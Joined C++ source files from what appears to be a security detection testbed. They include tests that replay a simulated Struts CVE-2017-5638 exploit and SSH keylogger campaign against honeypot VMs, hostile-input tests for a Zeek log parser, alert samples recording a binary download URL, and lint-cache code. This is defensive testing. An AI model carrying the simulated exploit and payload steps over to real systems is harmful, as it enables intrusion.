TEST_F(CampaignFixture, VulnerableServiceFromVrtBuild) {
  auto* service = bed->add_vulnerable_service("struts", "20170301", 0);
  ASSERT_NE(service, nullptr);
  EXPECT_EQ(service->port(), 8080);
  EXPECT_FALSE(service->build().vulnerabilities().empty());
  // The service rides on a newly scaled VM inside the honeypot block.
  EXPECT_TRUE(net::blocks::honeypot24().contains(service->address()));
  EXPECT_EQ(bed->vms().instances().size(), 17u);
}

TEST_F(CampaignFixture, ExploitSucceedsOnlyOnVulnerableBuild) {
  auto* vulnerable = bed->add_vulnerable_service("struts", "20170301", 0);
  auto* patched = bed->add_vulnerable_service("struts", "20170401", 0);
  ASSERT_NE(vulnerable, nullptr);
  ASSERT_NE(patched, nullptr);
  const net::Ipv4 attacker(5, 5, 5, 5);
  EXPECT_TRUE(vulnerable->exploit(attacker, "CVE-2017-5638", 10).success);
  const auto failed = patched->exploit(attacker, "CVE-2017-5638", 10);
  EXPECT_FALSE(failed.success);
  EXPECT_NE(failed.detail.find("patched"), std::string::npos);
  EXPECT_EQ(patched->failed_exploits(), 1u);
  // Payloads need a live shell.
  EXPECT_TRUE(vulnerable->run_payload(attacker, "id", 20));
  EXPECT_FALSE(patched->run_payload(attacker, "id", 20));
  EXPECT_FALSE(vulnerable->run_payload(net::Ipv4(6, 6, 6, 6), "id", 20));
}

TEST_F(CampaignFixture, UnknownPackageOrBadDateReturnsNull) {
  EXPECT_EQ(bed->add_vulnerable_service("no-such-pkg", "20170301", 0), nullptr);
  EXPECT_EQ(bed->add_vulnerable_service("struts", "not-a-date", 0), nullptr);
}

TEST_F(CampaignFixture, StrutsCampaignIsDetectedBeforeTheMiner) {
  replay::StrutsCampaign campaign;
  std::vector<replay::Scenario*> scenarios{&campaign};
  replay::run_scenarios(*bed, scenarios, 0);
  EXPECT_TRUE(campaign.exploited());
  const auto note = replay::first_notification_after(*bed, 0, "factor-graph");
  ASSERT_TRUE(note.has_value());
  // The page arrives before the sustained-miner critical alert would land
  // (exploit + 120s), i.e. the attack is preempted.
  EXPECT_GT(bed->pipeline().notifications().size(), 0u);
}

TEST_F(CampaignFixture, StrutsCampaignAgainstPatchedBuildStaysQuietish) {
  replay::StrutsCampaign::Config config;
  config.snapshot_date = "20180101";  // post-fix build
  replay::StrutsCampaign campaign(config);
  std::vector<replay::Scenario*> scenarios{&campaign};
  replay::run_scenarios(*bed, scenarios, 0);
  EXPECT_FALSE(campaign.exploited());
  // No factor-graph page: probing alone is below the firing threshold.
  EXPECT_FALSE(replay::first_notification_after(*bed, 0, "factor-graph").has_value());
}

TEST_F(CampaignFixture, KeyloggerCampaignDetected) {
  replay::SshKeyloggerCampaign campaign;
  std::vector<replay::Scenario*> scenarios{&campaign};
  replay::run_scenarios(*bed, scenarios, 0);
  const auto note = replay::first_notification_after(*bed, 0);
  ASSERT_TRUE(note.has_value());
  // Detection happens on the victim host's stream.
  EXPECT_TRUE(note->entity.starts_with("host:"));
}

TEST(PipelineEviction, IdleEntitiesAreDropped) {
  testbed::PipelineConfig config;
  config.entity_idle_ttl = 100;
  config.eviction_check_every = 1;
  testbed::AlertPipeline pipeline(config, nullptr);
  pipeline.add_detector("critical", [] {
    return std::make_unique<detect::CriticalAlertDetector>();
  });
  alerts::Alert alert;
  alert.type = alerts::AlertType::kFileDroppedTmp;
  for (int i = 0; i < 50; ++i) {
    alert.ts = i;
    alert.host = "h" + std::to_string(i);
    pipeline.on_alert(alert);
  }
  EXPECT_EQ(pipeline.tracked_entities(), 50u);
  // A much later alert triggers eviction of everything idle.
  alert.ts = 10'000;
  alert.host = "fresh";
  pipeline.on_alert(alert);
  EXPECT_EQ(pipeline.tracked_entities(), 1u);
  EXPECT_EQ(pipeline.evicted_entities(), 50u);
}

TEST(PipelineEviction, DisabledWhenTtlZero) {
  testbed::PipelineConfig config;
  config.entity_idle_ttl = 0;
  config.eviction_check_every = 1;
  testbed::AlertPipeline pipeline(config, nullptr);
  alerts::Alert alert;
  alert.type = alerts::AlertType::kFileDroppedTmp;
  alert.host = "a";
  alert.ts = 0;
  pipeline.on_alert(alert);
  alert.ts = 1'000'000'000;
  alert.host = "b";
  pipeline.on_alert(alert);
  EXPECT_EQ(pipeline.tracked_entities(), 2u);
  EXPECT_EQ(pipeline.evicted_entities(), 0u);
}

}  // namespace
}  // namespace at
