// Hostile-input tests for the Zeek notice-log parsers: embedded NUL bytes,
// overlong fields, and non-UTF-8 byte sequences. The parsers must never
// crash or throw on arbitrary bytes, and parse_notice_line /
// parse_notice_batch must agree line-for-line on what counts as malformed
// (the batch path is the zero-copy twin of the scalar path).

#include <string>
#include <string_view>
#include <vector>

#include <gtest/gtest.h>

#include "alerts/zeeklog.hpp"
#include "util/strings.hpp"

namespace {

using at::alerts::AlertBatch;
using at::alerts::parse_notice_batch;
using at::alerts::parse_notice_line;

const std::string kValidLine = "1730259852\talert_port_scan\tpg-3\troot\t194.145.0.1\tzeek\t-";

// Scalar and batch parsers must agree on every line of `text`.
void expect_parity(const std::string& text) {
  std::size_t scalar_ok = 0;
  std::size_t scalar_malformed = 0;
  std::size_t start = 0;
  while (start <= text.size()) {
    const std::size_t end = text.find('\n', start);
    const std::string_view line(text.data() + start,
                                (end == std::string::npos ? text.size() : end) - start);
    if (end == std::string::npos && line.empty()) break;
    // Blank (after trim) and comment lines are skipped silently by both
    // parsers; everything else is either a row or a malformed count.
    const auto trimmed = at::util::trim(line);
    if (!trimmed.empty() && trimmed.front() != '#') {
      if (parse_notice_line(line).has_value()) {
        ++scalar_ok;
      } else {
        ++scalar_malformed;
      }
    }
    if (end == std::string::npos) break;
    start = end + 1;
  }

  const AlertBatch batch = parse_notice_batch(std::string(text));
  EXPECT_EQ(batch.size(), scalar_ok);
  EXPECT_EQ(batch.malformed, scalar_malformed);
}

TEST(ZeeklogMalformed, EmbeddedNulInField) {
  std::string line = kValidLine;
  line[line.find("pg-3") + 1] = '\0';  // host becomes "p\0-3"
  // A NUL is just a byte: the line still has 7 tab-separated fields and all
  // typed fields (ts/type/src/origin) are intact, so it must parse — and
  // the host must round-trip all 4 bytes, not stop at the NUL.
  const auto parsed = parse_notice_line(line);
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(parsed->host.size(), 4u);
  EXPECT_EQ(parsed->host[1], '\0');
}

TEST(ZeeklogMalformed, NulInNumericFieldFollowsStollAcceptSet) {
  // parse_ts deliberately preserves the historical std::stoll accept set
  // (see zeeklog.cpp): digits followed by junk parse as the digits...
  std::string trailing = kValidLine;
  trailing[3] = '\0';  // ts "173\0 259852"
  const auto parsed = parse_notice_line(trailing);
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(parsed->ts, 173);

  // ...but junk before any digit is malformed.
  std::string leading = kValidLine;
  leading[0] = '\0';  // ts "\0 730259852"
  EXPECT_FALSE(parse_notice_line(leading).has_value());
  expect_parity(trailing + "\n" + leading + "\n");
}

TEST(ZeeklogMalformed, NulBytesKeepBatchParity) {
  std::string text = kValidLine + "\n";
  std::string nul_host = kValidLine;
  nul_host[nul_host.find("pg-3")] = '\0';
  text += nul_host + "\n";
  std::string nul_ts = kValidLine;
  nul_ts[0] = '\0';
  text += nul_ts + "\n";
  expect_parity(text);
}

TEST(ZeeklogMalformed, OverlongFieldParsesWithoutTruncation) {
  // ~1 MiB user field: nothing in the format caps field length, so the
  // parser must carry it through rather than crash, truncate, or reject.
  const std::string big(1u << 20, 'u');
  const std::string line =
      "1730259852\talert_port_scan\tpg-3\t" + big + "\t194.145.0.1\tzeek\t-";
  const auto parsed = parse_notice_line(line);
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(parsed->user.size(), big.size());

  AlertBatch batch = parse_notice_batch(line + "\n");
  ASSERT_EQ(batch.size(), 1u);
  EXPECT_EQ(batch.user[0].size(), big.size());
  EXPECT_EQ(batch.materialize(0).user, parsed->user);
}

TEST(ZeeklogMalformed, OverlongNumericFieldIsMalformedNotCrash) {
  // A 1 MiB run of digits overflows any integer type; both parsers must
  // reject the line instead of throwing or wrapping.
  const std::string digits(1u << 20, '9');
  const std::string line =
      digits + "\talert_port_scan\tpg-3\troot\t194.145.0.1\tzeek\t-";
  EXPECT_FALSE(parse_notice_line(line).has_value());
  const AlertBatch batch = parse_notice_batch(line + "\n");
  EXPECT_EQ(batch.size(), 0u);
  EXPECT_EQ(batch.malformed, 1u);
}

TEST(ZeeklogMalformed, NonUtf8BytesInTextFieldsSurvive) {
  // Invalid UTF-8 (lone continuation bytes, overlong encodings, 0xFF): the
  // format is byte-oriented, so these must pass through text fields intact.
  const std::string junk = "\x80\xbf\xc0\xaf\xfe\xff";
  const std::string line =
      "1730259852\talert_port_scan\t" + junk + "\t" + junk + "\t-\tzeek\tk=" + junk;
  const auto parsed = parse_notice_line(line);
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(parsed->host, junk);
  EXPECT_EQ(parsed->user, junk);

  AlertBatch batch = parse_notice_batch(line + "\n");
  ASSERT_EQ(batch.size(), 1u);
  EXPECT_EQ(batch.host[0], junk);
  EXPECT_EQ(batch.materialize(0).host, parsed->host);
}

TEST(ZeeklogMalformed, NonUtf8BytesInTypedFieldsAreMalformed) {
  std::string bad_type = kValidLine;
  bad_type.replace(bad_type.find("alert_port_scan"), 5, "\xff\xfe\xfd\xfc\xfb");
  EXPECT_FALSE(parse_notice_line(bad_type).has_value());

  std::string bad_src = kValidLine;
  bad_src.replace(bad_src.find("194.145.0.1"), 3, "\xc0\xc1\xf5");
  EXPECT_FALSE(parse_notice_line(bad_src).has_value());

  expect_parity(bad_type + "\n" + bad_src + "\n" + kValidLine + "\n");
}

TEST(ZeeklogMalformed, MixedHostileLogKeepsParityAndCounts) {
  std::string text;
  text += "#separator \\t\n";
  text += kValidLine + "\n";
  text += "\xff\xff\xff\n";                       // pure garbage
  text += std::string(64, '\t') + "\n";           // tabs only: blank after trim
  text += "1730259852\talert_port_scan\n";        // too few fields
  std::string over = kValidLine + "\textra\tfields";
  text += over + "\n";                            // too many fields
  std::string nul = kValidLine;
  nul[nul.size() - 1] = '\0';                     // metadata "\0": pair has no '='
  text += nul + "\n";
  text += kValidLine + "\n";
  expect_parity(text);

  const AlertBatch batch = parse_notice_batch(std::string(text));
  EXPECT_EQ(batch.size(), 2u);      // only the two pristine lines
  EXPECT_EQ(batch.malformed, 4u);   // garbage, under-split, over-split, bad meta
}

}  // namespace
