// Zeek notice-log serialization round trips and incident report
// generation/parsing — the dataset's archival formats.

#include <gtest/gtest.h>

#include "alerts/zeeklog.hpp"
#include "incidents/generator.hpp"
#include "incidents/report.hpp"

namespace at {
namespace {

alerts::Alert sample_alert() {
  alerts::Alert alert;
  alert.ts = 1730259852;
  alert.type = alerts::AlertType::kDownloadSensitive;
  alert.host = "pg-3";
  alert.user = "postgres";
  alert.src = net::Ipv4(194, 145, 7, 8);
  alert.origin = alerts::Origin::kZeek;
  alert.add_meta("url", "194.145.7.8/sys.x86_64");
  return alert;
}

TEST(ZeekLog, SingleLineRoundTrip) {
  const auto alert = sample_alert();
  const auto line = alerts::to_notice_line(alert);
  const auto parsed = alerts::parse_notice_line(line);
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(parsed->ts, alert.ts);
  EXPECT_EQ(parsed->type, alert.type);
  EXPECT_EQ(parsed->host, alert.host);
  EXPECT_EQ(parsed->user, alert.user);
  EXPECT_EQ(parsed->src, alert.src);
  EXPECT_EQ(parsed->origin, alert.origin);
  ASSERT_EQ(parsed->metadata.size(), 1u);
  EXPECT_EQ(parsed->metadata[0].first, "url");
  EXPECT_EQ(parsed->metadata[0].second, "194.145.7.8/sys.x86_64");
}

TEST(ZeekLog, EmptyFieldsRoundTrip) {
  alerts::Alert alert;
  alert.ts = 5;
  alert.type = alerts::AlertType::kPortScan;
  const auto parsed = alerts::parse_notice_line(alerts::to_notice_line(alert));
  ASSERT_TRUE(parsed.has_value());
  EXPECT_TRUE(parsed->host.empty());
  EXPECT_TRUE(parsed->user.empty());
  EXPECT_FALSE(parsed->src.has_value());
  EXPECT_TRUE(parsed->metadata.empty());
}

TEST(ZeekLog, EmbeddedSeparatorsAreNeutralized) {
  alerts::Alert alert;
  alert.ts = 1;
  alert.type = alerts::AlertType::kCompileSource;
  alert.host = "evil\thost\nname";
  alert.add_meta("cmd", "a\tb|c");
  const auto line = alerts::to_notice_line(alert);
  EXPECT_EQ(std::count(line.begin(), line.end(), '\t'), 6);  // exactly the field seps
  EXPECT_EQ(line.find('\n'), std::string::npos);
  const auto parsed = alerts::parse_notice_line(line);
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(parsed->host, "evil host name");
}

TEST(ZeekLog, RejectsMalformed) {
  EXPECT_FALSE(alerts::parse_notice_line("").has_value());
  EXPECT_FALSE(alerts::parse_notice_line("# a comment").has_value());
  EXPECT_FALSE(alerts::parse_notice_line("not\tenough\tfields").has_value());
  EXPECT_FALSE(alerts::parse_notice_line(
                   "xyz\talert_port_scan\t-\t-\t-\tzeek\t-")  // bad ts
                   .has_value());
  EXPECT_FALSE(alerts::parse_notice_line(
                   "1\talert_unknown_type\t-\t-\t-\tzeek\t-")
                   .has_value());
  EXPECT_FALSE(alerts::parse_notice_line(
                   "1\talert_port_scan\t-\t-\tnot-an-ip\tzeek\t-")
                   .has_value());
}

TEST(ZeekLog, WholeLogRoundTrip) {
  std::vector<alerts::Alert> alerts_in;
  for (int i = 0; i < 50; ++i) {
    auto alert = sample_alert();
    alert.ts += i;
    alert.type = static_cast<alerts::AlertType>(i % static_cast<int>(alerts::kNumAlertTypes));
    alerts_in.push_back(alert);
  }
  const auto text = alerts::write_notice_log(alerts_in);
  const auto result = alerts::read_notice_log(text);
  EXPECT_EQ(result.malformed, 0u);
  ASSERT_EQ(result.alerts.size(), alerts_in.size());
  for (std::size_t i = 0; i < alerts_in.size(); ++i) {
    EXPECT_EQ(result.alerts[i].ts, alerts_in[i].ts);
    EXPECT_EQ(result.alerts[i].type, alerts_in[i].type);
  }
}

TEST(ZeekLog, ReaderCountsMalformedLines) {
  const std::string text =
      "#fields ...\n"
      "1\talert_port_scan\t-\t-\t-\tzeek\t-\n"
      "garbage line\n"
      "\n"
      "2\talert_port_scan\t-\t-\t-\tzeek\t-\n";
  const auto result = alerts::read_notice_log(text);
  EXPECT_EQ(result.alerts.size(), 2u);
  EXPECT_EQ(result.malformed, 1u);
}

TEST(ZeekLog, CorpusExportScales) {
  incidents::CorpusConfig config;
  config.repetition_scale = 0.01;
  const auto corpus = incidents::CorpusGenerator(config).generate();
  std::vector<alerts::Alert> all;
  for (const auto& incident : corpus.incidents) {
    for (const auto& entry : incident.timeline) all.push_back(entry.alert);
  }
  const auto text = alerts::write_notice_log(all);
  const auto result = alerts::read_notice_log(text);
  EXPECT_EQ(result.malformed, 0u);
  EXPECT_EQ(result.alerts.size(), all.size());
}

// --- incident reports ---

TEST(ReportTest, WriteContainsGroundTruthAndSequence) {
  incidents::CorpusConfig config;
  config.repetition_scale = 0.01;
  const auto corpus = incidents::CorpusGenerator(config).generate();
  const auto& incident = corpus.incidents[0];
  const auto text = incidents::write_report(incident);
  EXPECT_NE(text.find("SECURITY INCIDENT REPORT"), std::string::npos);
  EXPECT_NE(text.find(incident.family), std::string::npos);
  EXPECT_NE(text.find(incident.truth.compromised_user), std::string::npos);
  // Core alerts are listed in order.
  for (const auto type : incident.core_sequence()) {
    EXPECT_NE(text.find(alerts::symbol(type)), std::string::npos);
  }
  // Anonymized by default: the attacker's full address never appears.
  EXPECT_EQ(text.find(incident.truth.attacker.str()), std::string::npos);
  EXPECT_NE(text.find(incident.truth.attacker.anonymized()), std::string::npos);
}

TEST(ReportTest, RoundTripHeader) {
  incidents::CorpusConfig config;
  config.repetition_scale = 0.01;
  const auto corpus = incidents::CorpusGenerator(config).generate();
  for (std::size_t i = 0; i < 5; ++i) {
    const auto& incident = corpus.incidents[i * 20];
    incidents::ReportOptions options;
    options.anonymize = false;  // keep the address parsable
    const auto text = incidents::write_report(incident, options);
    const auto parsed = incidents::parse_report(text);
    ASSERT_TRUE(parsed.has_value());
    EXPECT_EQ(parsed->id, incident.id);
    EXPECT_EQ(parsed->family, incident.family);
    EXPECT_EQ(parsed->truth.attacker, incident.truth.attacker);
    EXPECT_EQ(parsed->truth.compromised_user, incident.truth.compromised_user);
    EXPECT_EQ(parsed->truth.compromised_hosts, incident.truth.compromised_hosts);
    EXPECT_EQ(parsed->core_alerts, incident.core_sequence().size());
    EXPECT_EQ(parsed->damage_recorded, incident.damage_ts.has_value());
  }
}

TEST(ReportTest, ParseRejectsNonReports) {
  EXPECT_FALSE(incidents::parse_report("just some text").has_value());
  EXPECT_FALSE(incidents::parse_report("").has_value());
  EXPECT_FALSE(
      incidents::parse_report("== SECURITY INCIDENT REPORT ==\nno id here\n").has_value());
}

}  // namespace
}  // namespace at
