#include "at_lint/cache.hpp"

#include <algorithm>
#include <fstream>
#include <sstream>
#include <vector>

namespace at::lint {

namespace {

// Record kinds, one per line: F starts a file entry; V/E/L/D/U/S/G/P/X/N
// attach to the most recent F; C/B/T/O/W attach to the most recent N
// (function). Fields are '\x1f'-separated; list-valued fields (acquires,
// held locks, parameter names) join their items with '|'. None of '\n',
// '\x1f', '|' occur in source text the repo lints — all are stripped
// defensively on write.
constexpr char kSep = '\x1f';
constexpr char kListSep = '|';
constexpr std::string_view kMagic = "at_lint-cache";
// Format 3: S records carry a hit count; G/P/N/C/B/T/O records serialize
// the phase-1 code facts (container fields, pending loops, functions with
// their call/blocking/throw/atomic sites) so warm runs re-extract nothing.
// Format 4: N gains untrusted/sanitizes flag chars and a parameter-name
// list; W records serialize the per-function FlowEdge dataflow summaries;
// X records carry the file's bounded_fields (AT_BOUNDED / eviction
// evidence) consumed by the unbounded-growth rule.
constexpr int kFormat = 4;

std::string clean(std::string_view text) {
  std::string out;
  out.reserve(text.size());
  for (const char c : text) {
    if (c != '\n' && c != kSep && c != kListSep) out += c;
  }
  return out;
}

std::string join(const std::vector<std::string>& items) {
  std::string out;
  for (const auto& item : items) {
    if (!out.empty()) out += kListSep;
    out += clean(item);
  }
  return out;
}

std::vector<std::string> split_list(std::string_view text) {
  std::vector<std::string> out;
  if (text.empty()) return out;
  std::size_t start = 0;
  while (true) {
    const std::size_t end = text.find(kListSep, start);
    if (end == std::string_view::npos) {
      out.emplace_back(text.substr(start));
      return out;
    }
    out.emplace_back(text.substr(start, end - start));
    start = end + 1;
  }
}

std::vector<std::string_view> split(std::string_view line, char sep) {
  std::vector<std::string_view> out;
  std::size_t start = 0;
  while (true) {
    const std::size_t end = line.find(sep, start);
    if (end == std::string_view::npos) {
      out.push_back(line.substr(start));
      return out;
    }
    out.push_back(line.substr(start, end - start));
    start = end + 1;
  }
}

std::uint64_t to_u64(std::string_view text) {
  std::uint64_t value = 0;
  for (const char c : text) {
    if (c < '0' || c > '9') return 0;
    value = value * 10 + static_cast<std::uint64_t>(c - '0');
  }
  return value;
}

}  // namespace

Cache Cache::deserialize(std::string_view text) {
  Cache cache;
  FileAnalysis* current = nullptr;
  FileFacts::Function* current_fn = nullptr;
  std::size_t start = 0;
  bool header_ok = false;
  bool first = true;
  while (start < text.size()) {
    std::size_t end = text.find('\n', start);
    if (end == std::string_view::npos) end = text.size();
    const std::string_view line = text.substr(start, end - start);
    start = end + 1;
    if (line.empty()) continue;
    const auto fields = split(line, kSep);
    if (first) {
      first = false;
      // Header: magic, format, engine salt. Any mismatch → cold cache.
      header_ok = fields.size() == 3 && fields[0] == kMagic &&
                  to_u64(fields[1]) == static_cast<std::uint64_t>(kFormat) &&
                  to_u64(fields[2]) == engine_salt();
      if (!header_ok) return cache;
      continue;
    }
    if (!header_ok || fields.empty()) continue;
    const std::string_view tag = fields[0];
    if (tag == "F" && fields.size() == 3) {
      FileAnalysis entry;
      entry.path = std::string(fields[1]);
      entry.key = to_u64(fields[2]);
      entry.from_cache = true;
      current = &(cache.entries_[entry.path] = std::move(entry));
      current_fn = nullptr;
    } else if (current == nullptr) {
      continue;
    } else if (tag == "V" && fields.size() == 7) {
      Violation v;
      v.rule = std::string(fields[1]);
      v.file = std::string(fields[2]);
      v.line = to_u64(fields[3]);
      v.column = to_u64(fields[4]);
      v.message = std::string(fields[5]);
      v.excerpt = std::string(fields[6]);
      current->violations.push_back(std::move(v));
    } else if (tag == "E" && fields.size() == 2) {
      current->facts.quoted_includes.emplace_back(fields[1]);
    } else if (tag == "L" && fields.size() == 4) {
      current->facts.lock_edges.push_back(
          {std::string(fields[1]), std::string(fields[2]),
           static_cast<std::uint32_t>(to_u64(fields[3]))});
    } else if (tag == "D" && fields.size() == 2) {
      current->facts.declared_types.emplace_back(fields[1]);
    } else if (tag == "U" && fields.size() == 3) {
      current->facts.used_types.push_back(
          {std::string(fields[1]), static_cast<std::uint32_t>(to_u64(fields[2]))});
    } else if (tag == "S" && fields.size() == 4) {
      current->facts.suppressions.push_back(
          {std::string(fields[1]), static_cast<std::uint32_t>(to_u64(fields[2])),
           static_cast<std::uint32_t>(to_u64(fields[3]))});
    } else if (tag == "G" && fields.size() == 4) {
      current->facts.container_fields.push_back(
          {std::string(fields[1]), fields[2].empty() ? 'u' : fields[2][0],
           static_cast<std::uint32_t>(to_u64(fields[3]))});
    } else if (tag == "P" && fields.size() == 5) {
      current->facts.pending_loops.push_back(
          {std::string(fields[1]), std::string(fields[2]), std::string(fields[3]),
           static_cast<std::uint32_t>(to_u64(fields[4]))});
    } else if (tag == "X" && fields.size() == 2) {
      current->facts.bounded_fields.emplace_back(fields[1]);
    } else if (tag == "N" && fields.size() == 6) {
      FileFacts::Function fn;
      fn.name = std::string(fields[1]);
      fn.line = static_cast<std::uint32_t>(to_u64(fields[2]));
      const std::string_view flags = fields[3];
      fn.hot = flags.size() > 0 && flags[0] == '1';
      fn.is_noexcept = flags.size() > 1 && flags[1] == '1';
      fn.is_dtor = flags.size() > 2 && flags[2] == '1';
      fn.is_task = flags.size() > 3 && flags[3] == '1';
      fn.untrusted = flags.size() > 4 && flags[4] == '1';
      fn.sanitizes = flags.size() > 5 && flags[5] == '1';
      fn.acquires = split_list(fields[4]);
      fn.params = split_list(fields[5]);
      current->facts.functions.push_back(std::move(fn));
      current_fn = &current->facts.functions.back();
    } else if (current_fn == nullptr) {
      continue;
    } else if (tag == "W" && fields.size() == 10) {
      FileFacts::FlowEdge flow;
      flow.from_param = static_cast<int>(to_u64(fields[1])) - 1;
      flow.from_call = std::string(fields[2]);
      flow.kind = fields[3].empty() ? 'a' : fields[3][0];
      flow.to_call = std::string(fields[4]);
      flow.to_arg = static_cast<int>(to_u64(fields[5])) - 1;
      flow.sink = std::string(fields[6]);
      flow.detail = std::string(fields[7]);
      flow.line = static_cast<std::uint32_t>(to_u64(fields[8]));
      flow.checked = fields[9] == "1";
      current_fn->flows.push_back(std::move(flow));
    } else if (tag == "C" && fields.size() == 5) {
      FileFacts::CallSite call;
      call.name = std::string(fields[1]);
      call.line = static_cast<std::uint32_t>(to_u64(fields[2]));
      call.in_try = fields[3] == "1";
      call.held = split_list(fields[4]);
      current_fn->calls.push_back(std::move(call));
    } else if (tag == "B" && fields.size() == 4) {
      current_fn->blocking.push_back(
          {std::string(fields[1]), std::string(fields[2]),
           static_cast<std::uint32_t>(to_u64(fields[3]))});
    } else if (tag == "T" && fields.size() == 2) {
      current_fn->throw_lines.push_back(static_cast<std::uint32_t>(to_u64(fields[1])));
    } else if (tag == "O" && fields.size() == 7) {
      current_fn->atomics.push_back(
          {std::string(fields[1]), std::string(fields[2]), std::string(fields[3]),
           static_cast<std::uint32_t>(to_u64(fields[4])), fields[5] == "1",
           fields[6] == "1"});
    }
  }
  return cache;
}

std::string Cache::serialize() const {
  std::vector<const FileAnalysis*> sorted;
  sorted.reserve(entries_.size());
  for (const auto& [_, entry] : entries_) sorted.push_back(&entry);
  std::sort(sorted.begin(), sorted.end(),
            [](const FileAnalysis* a, const FileAnalysis* b) { return a->path < b->path; });

  std::ostringstream out;
  out << kMagic << kSep << kFormat << kSep << engine_salt() << '\n';
  for (const FileAnalysis* entry : sorted) {
    out << 'F' << kSep << clean(entry->path) << kSep << entry->key << '\n';
    for (const auto& v : entry->violations) {
      out << 'V' << kSep << clean(v.rule) << kSep << clean(v.file) << kSep << v.line
          << kSep << v.column << kSep << clean(v.message) << kSep << clean(v.excerpt)
          << '\n';
    }
    for (const auto& inc : entry->facts.quoted_includes) {
      out << 'E' << kSep << clean(inc) << '\n';
    }
    for (const auto& edge : entry->facts.lock_edges) {
      out << 'L' << kSep << clean(edge.first) << kSep << clean(edge.second) << kSep
          << edge.line << '\n';
    }
    for (const auto& type : entry->facts.declared_types) {
      out << 'D' << kSep << clean(type) << '\n';
    }
    for (const auto& use : entry->facts.used_types) {
      out << 'U' << kSep << clean(use.name) << kSep << use.line << '\n';
    }
    for (const auto& s : entry->facts.suppressions) {
      out << 'S' << kSep << clean(s.rule) << kSep << s.line << kSep << s.hits << '\n';
    }
    for (const auto& cf : entry->facts.container_fields) {
      out << 'G' << kSep << clean(cf.name) << kSep << cf.kind << kSep << cf.line << '\n';
    }
    for (const auto& p : entry->facts.pending_loops) {
      out << 'P' << kSep << clean(p.range_var) << kSep << clean(p.sink_var) << kSep
          << clean(p.sink_what) << kSep << p.line << '\n';
    }
    for (const auto& bf : entry->facts.bounded_fields) {
      out << 'X' << kSep << clean(bf) << '\n';
    }
    for (const auto& fn : entry->facts.functions) {
      const char flags[7] = {fn.hot ? '1' : '0',       fn.is_noexcept ? '1' : '0',
                             fn.is_dtor ? '1' : '0',   fn.is_task ? '1' : '0',
                             fn.untrusted ? '1' : '0', fn.sanitizes ? '1' : '0',
                             '\0'};
      out << 'N' << kSep << clean(fn.name) << kSep << fn.line << kSep << flags << kSep
          << join(fn.acquires) << kSep << join(fn.params) << '\n';
      for (const auto& call : fn.calls) {
        out << 'C' << kSep << clean(call.name) << kSep << call.line << kSep
            << (call.in_try ? '1' : '0') << kSep << join(call.held) << '\n';
      }
      for (const auto& b : fn.blocking) {
        out << 'B' << kSep << clean(b.category) << kSep << clean(b.name) << kSep
            << b.line << '\n';
      }
      for (const std::uint32_t t : fn.throw_lines) {
        out << 'T' << kSep << t << '\n';
      }
      for (const auto& op : fn.atomics) {
        out << 'O' << kSep << clean(op.object) << kSep << clean(op.op) << kSep
            << clean(op.order) << kSep << op.line << kSep << (op.deref ? '1' : '0')
            << kSep << (op.guards_other ? '1' : '0') << '\n';
      }
      // Param indices shift by one on the wire so "none" (-1) serializes
      // as the digit 0 and survives the unsigned parser.
      for (const auto& flow : fn.flows) {
        out << 'W' << kSep << flow.from_param + 1 << kSep << clean(flow.from_call)
            << kSep << flow.kind << kSep << clean(flow.to_call) << kSep
            << flow.to_arg + 1 << kSep << clean(flow.sink) << kSep
            << clean(flow.detail) << kSep << flow.line << kSep
            << (flow.checked ? '1' : '0') << '\n';
      }
    }
  }
  return out.str();
}

const FileAnalysis* Cache::lookup(const std::string& path, std::uint64_t key) const {
  const auto it = entries_.find(path);
  if (it == entries_.end() || it->second.key != key) return nullptr;
  return &it->second;
}

void Cache::store(const FileAnalysis& analysis) { entries_[analysis.path] = analysis; }

Cache Cache::load(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) return Cache{};
  std::ostringstream buffer;
  buffer << in.rdbuf();
  return deserialize(buffer.str());
}

bool Cache::save(const std::string& path) const {
  std::ofstream out(path, std::ios::binary | std::ios::trunc);
  if (!out) return false;
  out << serialize();
  return static_cast<bool>(out);
}

}  // namespace at::lint
