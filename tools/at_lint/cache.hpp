#pragma once
// Incremental analysis cache. One entry per file, keyed by the FNV-1a hash
// of (engine version, file bytes, sibling-header bytes) computed by the
// engine — so touching a file, its paired header, or any rule implementation
// invalidates exactly the entries it must. Entries hold the post-inline-
// suppression / pre-allowlist violations plus the FileFacts the project-wide
// rules consume, which is everything a warm run needs: 0 files re-lexed,
// allowlist edits never invalidate anything.
//
// On-disk format is a versioned line-oriented text file (field separator
// '\x1f' — never appears in source excerpts we store) written with sorted
// paths so identical states serialize to identical bytes.

#include <optional>
#include <string>
#include <string_view>
#include <unordered_map>

#include "at_lint/lint.hpp"

namespace at::lint {

class Cache {
 public:
  /// Parse serialized cache text. Entries whose recorded engine salt does
  /// not match the running engine are dropped wholesale.
  static Cache deserialize(std::string_view text);

  /// Deterministic text form of every entry (sorted by path).
  [[nodiscard]] std::string serialize() const;

  /// The entry for `path` when its key matches, else nullptr.
  [[nodiscard]] const FileAnalysis* lookup(const std::string& path,
                                           std::uint64_t key) const;

  /// Insert or replace the entry for `analysis.path`.
  void store(const FileAnalysis& analysis);

  [[nodiscard]] std::size_t size() const noexcept { return entries_.size(); }

  /// Convenience: load from / save to `path`. load() returns an empty cache
  /// when the file is missing or unreadable (a cold start, not an error).
  static Cache load(const std::string& path);
  [[nodiscard]] bool save(const std::string& path) const;

 private:
  std::unordered_map<std::string, FileAnalysis> entries_;
};

}  // namespace at::lint
