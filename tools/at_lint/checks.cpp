// The fifteen at_lint rules, each a Check subclass over the token stream
// (see lexer.hpp). Heuristics prefer false negatives over false positives —
// a noisy linter gets deleted, a quiet one gets trusted. Every rule
// dispatches on repo-relative path prefixes; tests/negative/ never reaches
// here (the CLI excludes it). Cross-TU rules (determinism's pending loops,
// lock-order's helper propagation, blocking-in-hot-path, atomic-order,
// noexcept-escape) consume the ProjectGraph built by link.cpp.

#include <algorithm>
#include <array>
#include <cctype>
#include <functional>
#include <map>
#include <set>
#include <string>
#include <tuple>
#include <unordered_map>
#include <unordered_set>
#include <vector>

#include "at_lint/facts.hpp"
#include "at_lint/link.hpp"
#include "at_lint/lint.hpp"
#include "at_lint/token_util.hpp"

namespace at::lint {

namespace {

